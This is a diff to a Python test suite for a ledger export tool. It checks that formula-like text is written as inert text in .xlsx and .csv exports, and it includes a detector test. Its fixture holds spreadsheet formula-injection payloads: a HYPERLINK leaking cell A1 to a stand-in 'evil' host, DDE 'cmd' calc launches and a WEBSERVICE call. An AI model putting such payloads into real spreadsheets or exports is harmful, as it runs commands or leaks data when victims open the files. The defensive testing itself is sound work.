@@ -5,16 +5,18 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import html
+import json
 import re
 import shutil
 
 import pytest
 from click.testing import CliRunner
-from conftest import REPO, TODAY, copy_demo
+from conftest import REPO, TODAY, UNIT_YML, copy_demo
 from openpyxl import load_workbook
 from openpyxl.utils import column_index_from_string
 
-from wenmingsite import load
+from wenmingsite import export, load, pack
 from wenmingsite.cli import main
 
 
@@ -222,3 +224,180 @@ def test_exported_ledger_imports_back_as_the_same_activities(exported, tmp_path)
     assert [a.date for a in back.activities if a.kind == "routine"] == [
         a.date for a in original.activities if a.kind == "routine"
     ]
+
+
+# --- formula-like text is written as text ------------------------------------------------
+
+HOSTILE = {
+    "title": '=HYPERLINK("http://evil/?"&A1,"点我")',
+    "summary": "+cmd|' /C calc'!A0",
+    "location": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "department": "-2+3+cmd|' /C calc'!A0",
+    "category": '＝HYPERLINK("http://evil/")',  # full-width equals sign
+    "criterion": "=1+1",
+    "routine": '=WEBSERVICE("http://evil/")',
+}
+
+
+def q(text: str) -> str:
+    """A YAML double-quoted scalar (JSON's string syntax is one)."""
+    return json.dumps(text, ensure_ascii=False)
+
+
+@pytest.fixture
+def hostile_unit(site):
+    h = HOSTILE
+    return site(
+        {
+            "data/unit.yml": UNIT_YML.replace(
+                "departments: [办公室, 工会]", f"departments:\n  - {q(h['department'])}\n"
+            ),
+            "data/criteria.yml": f"- id: volunteer-service\n  name: {q(h['criterion'])}\n",
+            "data/categories.yml": f"- name: {q(h['category'])}\n  slug: volunteer\n  criteria: [volunteer-service]\n",
+            "docs/activities/2024-03-05-plant.md": (
+                "---\n"
+                f"title: {q(h['title'])}\n"
+                "date: 2024-03-05\n"
+                "category: volunteer\n"
+                f"department: {q(h['department'])}\n"
+                f"location: {q(h['location'])}\n"
+                f"summary: {q(h['summary'])}\n"
+                "participants: 20\n"
+                "---\n\n正文。\n"
+            ),
+            "data/activities/2024.yml": (
+                "routines:\n"
+                f"  - title: {q(h['routine'])}\n"
+                "    repeat: 每月\n"
+                "    day: 15\n"
+                "    start: 2024-01-01\n"
+                "    end: 2024-03-31\n"
+                "    category: volunteer\n"
+                "    participants: 5\n"
+            ),
+        }
+    )
+
+
+def export_to(root, target):
+    result = CliRunner().invoke(
+        main, ["export", str(target), "--root", str(root), "--date", TODAY.isoformat()], catch_exceptions=False
+    )
+    assert result.exit_code == 0, result.output
+    return result
+
+
+def test_formula_like_text_is_a_string_cell_in_the_xlsx(hostile_unit, tmp_path):
+    """Titles, summaries, places, departments, categories, criteria and routine names that
+    start like a formula are string cells (never <f>), marked as text for editing too; the
+    ledger's own totals stay formulas."""
+    import zipfile
+
+    out = tmp_path / "台账.xlsx"
+    export_to(hostile_unit, out)
+    book = load_workbook(out)
+    seen = {}
+    for ws in book.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                if isinstance(cell.value, str) and cell.value in HOSTILE.values():
+                    seen.setdefault(cell.value, []).append(f"{ws.title}!{cell.coordinate}")
+                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
+                    assert cell.quotePrefix, (ws.title, cell.coordinate, cell.value)
+    assert set(seen) == set(HOSTILE.values()), set(HOSTILE.values()) - set(seen)
+    # Every value as typed (an import reads the same title back), none as a formula.
+    year = book["2024年"]
+    assert [c.value for c in year[2]][3:8] == [
+        HOSTILE["title"],
+        HOSTILE["category"],
+        HOSTILE["criterion"],
+        HOSTILE["department"],
+        HOSTILE["location"],
+    ]
+    formulas = {
+        (ws.title, c.coordinate): c.value
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    }
+    # Only the 合计 rows hold formulas: the last row of each table sheet.
+    assert formulas and all(book[s].max_row == int(re.sub(r"\D", "", at)) for s, at in formulas)
+    assert all(re.fullmatch(r'=(SUM|COUNTA)\([A-Z]+\d+:[A-Z]+\d+\)(&" 项")?', v) for v in formulas.values())
+    # The file itself: no <f> element holds any of the typed text.
+    with zipfile.ZipFile(out) as z:
+        sheets = [z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/")]
+    for xml in sheets:
+        for f in re.findall(r"<f>(.*?)</f>", xml):
+            assert re.fullmatch(r'(SUM|COUNTA)\([A-Z]+\d+:[A-Z]+\d+\)(&" 项")?', html.unescape(f)), f
+
+
+def test_formula_like_text_gets_an_apostrophe_in_the_csv(hostile_unit, tmp_path):
+    out = tmp_path / "台账.csv"
+    export_to(hostile_unit, out)
+    themed = list(csv.reader(out.open(encoding="utf-8-sig")))
+    routines = list(csv.reader((tmp_path / "台账-例行活动.csv").open(encoding="utf-8-sig")))
+    row = dict(zip(themed[0], themed[1], strict=True))
+    assert row["活动名称"] == "'" + HOSTILE["title"]
+    assert row["摘要"] == "'" + HOSTILE["summary"]
+    assert row["地点"] == "'" + HOSTILE["location"]
+    assert row["部门"] == "'" + HOSTILE["department"]
+    assert row["类别"] == "'" + HOSTILE["category"]
+    assert row["测评项目"] == "'" + HOSTILE["criterion"]
+    assert row["参与人次"] == "20" and row["日期"] == "2024-03-05"
+    first = dict(zip(routines[0], routines[1], strict=True))
+    assert first["例行活动"] == "'" + HOSTILE["routine"] and first["所属类别"] == "'" + HOSTILE["category"]
+    # As text: no line of either file has a field that starts like a formula.
+    for path in (out, tmp_path / "台账-例行活动.csv"):
+        for fields in csv.reader(path.open(encoding="utf-8-sig")):
+            for field in fields:
+                assert not export.formula_like(field) or re.fullmatch(r"-?\d+(\.\d+)?", field), field
+
+
+def test_numbers_stay_numbers_and_plain_text_stays_as_it_is(tmp_path):
+    """A negative figure (content refuses them, but a ledger must not mangle one) is a number
+    cell in the .xlsx and a bare number in the .csv; ordinary text gets no mark."""
+    site = pack.bind_site(REPO, TODAY)
+    records = [dict(r) for r in site.records]
+    first = next(r for r in records if r["kind"] != "routine")
+    first.update(participants=-3, amount=-12.5, title="-3 号楼")
+    ledger = export.Ledger(site.content, records, site.stats)
+    export.write_xlsx(tmp_path / "a.xlsx", ledger)
+    export.write_csv(tmp_path / "a.csv", ledger)
+    ws = load_workbook(tmp_path / "a.xlsx")[f"{first['date'][:4]}年"]
+    row = next(r for r in ws.iter_rows(min_row=2) if r[3].value == "-3 号楼")
+    assert (row[8].value, row[8].data_type) == (-3, "n")
+    assert (row[10].value, row[10].data_type) == (-12.5, "n")
+    assert row[3].data_type == "s" and row[3].quotePrefix
+    plain = next(r for r in ws.iter_rows(min_row=2) if r[3].value != "-3 号楼")
+    assert not plain[3].quotePrefix and plain[3].data_type == "s"
+    lines = list(csv.reader((tmp_path / "a.csv").open(encoding="utf-8-sig")))
+    row = next(r for r in lines if r[3] == "'-3 号楼")
+    assert row[8] == "-3" and row[10] == "-12.5"
+    assert not any(field.startswith("'") for r in lines if r[3] != "'-3 号楼" for field in r)
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("=1+1", True),
+        ("+1", True),
+        ("-1", True),
+        ("@SUM(A1)", True),
+        ("\t=1", True),
+        ("\r=1", True),
+        ("＝1+1", True),
+        ("＋1", True),
+        ("－1", True),
+        ("＠A1", True),
+        ("﹦1", True),
+        (" =1+1", True),
+        ("\u3000=1+1", True),
+        ("1+1=2", False),
+        ("植树节", False),
+        ("“=”号", False),
+        ("", False),
+    ],
+)
+def test_formula_like(text, expected):
+    assert export.formula_like(text) is expected
